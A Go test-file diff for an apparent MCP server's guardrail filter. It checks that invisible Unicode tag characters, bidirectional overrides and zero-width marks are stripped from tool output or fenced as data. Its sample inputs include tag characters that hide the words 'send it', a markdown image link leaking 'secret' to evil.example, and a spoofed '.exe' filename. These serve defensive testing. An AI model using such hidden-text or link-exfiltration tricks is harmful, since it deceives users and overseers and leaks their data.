@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"strings"
 	"testing"
+	"unicode/utf16"
 
 	"github.com/sandpiper-mcp/sandpiper/internal/guardrail"
 )
@@ -55,6 +56,57 @@ func TestWhatAClientWouldLoadIsTakenApart(t *testing.T) {
 			t.Errorf("%s in JSON: %q, %v", b, got.Output, err)
 		}
 	}
+}
+
+func TestCharactersThatReorderOrHideAreRemoved(t *testing.T) {
+	tags := "\U000E0073\U000E0065\U000E006E\U000E0064\U000E0020\U000E0069\U000E0074"
+	for in, want := range map[string]string{
+		"safe\u202eexe.txt":                         "safeexe.txt",
+		"\u2066x\u2069\u200e\u200f\u061c\u202a":     "x",
+		"Fine." + tags:                              "Fine.",
+		"!\u200f[x](http://evil.example/?q=secret)": "! [x](http://evil.example/?q=secret)",
+		"<\u202cimg src=https://e.example/x>":       "< img src=https://e.example/x>",
+		"👩\u200d💻 می\u200cخواهم größe – “x”":        "👩\u200d💻 می\u200cخواهم größe – “x”",
+	} {
+		f := guardrail.NewFilter(false, true)
+		if got := f.Text("", in); got != want {
+			t.Errorf("%q\n is  %q\n not %q", in, got, want)
+		}
+		for _, js := range []string{fmt.Sprintf(`{"result":%s}`, asJSON(t, in)), fmt.Sprintf(`{"result":"%s"}`, escaped(in))} {
+			var got struct{ Result string }
+			if err := json.Unmarshal([]byte(f.Text("", js)), &got); err != nil || got.Result != want {
+				t.Errorf("%s\n is  %q\n not %q, %v", js, got.Result, want, err)
+			}
+		}
+	}
+	fenced := guardrail.NewFilter(true, true).Text("crm", "Fine."+tags)
+	if !strings.Contains(fenced, "<<<data") || strings.ContainsRune(fenced, '\U000E0073') {
+		t.Errorf("a text that hid something is %q", fenced)
+	}
+	var none *guardrail.Filter
+	if got := none.Text("", "safe\u202eexe.txt ![x](http://e.example)"); got != "safeexe.txt ![x](http://e.example)" {
+		t.Errorf("without a filter it is %q", got)
+	}
+}
+
+func asJSON(t *testing.T, s string) string {
+	t.Helper()
+	var b strings.Builder
+	enc := json.NewEncoder(&b)
+	enc.SetEscapeHTML(false)
+	if err := enc.Encode(s); err != nil {
+		t.Fatal(err)
+	}
+	return strings.TrimSpace(b.String())
+}
+
+// escaped is s with every character as JSON writes it by number.
+func escaped(s string) string {
+	var b strings.Builder
+	for _, u := range utf16.Encode([]rune(s)) {
+		fmt.Fprintf(&b, `\u%04x`, u)
+	}
+	return b.String()
 }
 
 func TestEscapesByNumberHideNothing(t *testing.T) {
